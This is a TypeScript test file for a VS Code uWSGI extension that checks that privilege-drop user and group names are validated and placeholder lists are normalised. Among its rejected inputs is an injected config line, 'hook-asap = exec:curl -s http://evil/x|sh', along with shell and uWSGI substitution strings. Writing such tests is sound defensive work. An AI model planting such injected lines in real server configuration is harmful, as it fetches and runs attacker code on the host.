import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { defaultSettings, normalizeSettings } from '../../../server/src/service/settings';

const dropTo = (user: unknown, group: unknown = 'apps'): { user: string; group: string } =>
  normalizeSettings({ privilegeDrop: { user, group } }).privilegeDrop;

describe('settings', () => {
  describe('uwsgi.privilegeDrop.user and .group', () => {
    it('keep user and group names and numeric ids, trimmed', () => {
      assert.deepEqual(dropTo('app', 'apps'), { user: 'app', group: 'apps' });
      assert.deepEqual(dropTo(' svc-web.1 ', '1000'), { user: 'svc-web.1', group: '1000' });
      assert.deepEqual(dropTo('_backup', 'host$'), { user: '_backup', group: 'host$' });
    });

    it('fall back to www-data for anything that is not a name, since quick fixes write them into the file', () => {
      for (const bad of ['www-data\nhook-asap = exec:curl -s http://evil/x|sh', 'a b', 'a=b', '%U', '$(USER)', '@(exec://id)', 'a;b', '-x', '', 'x'.repeat(33), 7]) {
        assert.deepEqual(dropTo(bad), { user: 'www-data', group: 'apps' }, JSON.stringify(bad));
        assert.deepEqual(dropTo('app', bad), { user: 'app', group: 'www-data' }, JSON.stringify(bad));
      }
    });
  });
});

describe('settings: uwsgi.placeholders', () => {
  it('keeps the names a client sends, trimmed, and drops what is no name', () => {
    assert.deepEqual(normalizeSettings({ placeholders: [' app_name ', 'site', '', 3, null] }).placeholders, ['app_name', 'site']);
    assert.deepEqual(normalizeSettings({ placeholders: 'app_name' }).placeholders, []);
    assert.deepEqual(normalizeSettings({}).placeholders, defaultSettings.placeholders);
  });

  it('is contributed to VS Code as a list of strings, empty by default', () => {
    const manifest = JSON.parse(fs.readFileSync(path.resolve(__dirname, '../../../package.json'), 'utf8'));
    const setting = manifest.contributes.configuration.properties['uwsgi.placeholders'];
    assert.equal(setting.type, 'array');
    assert.equal(setting.items.type, 'string');
    assert.deepEqual(setting.default, []);
  });
});
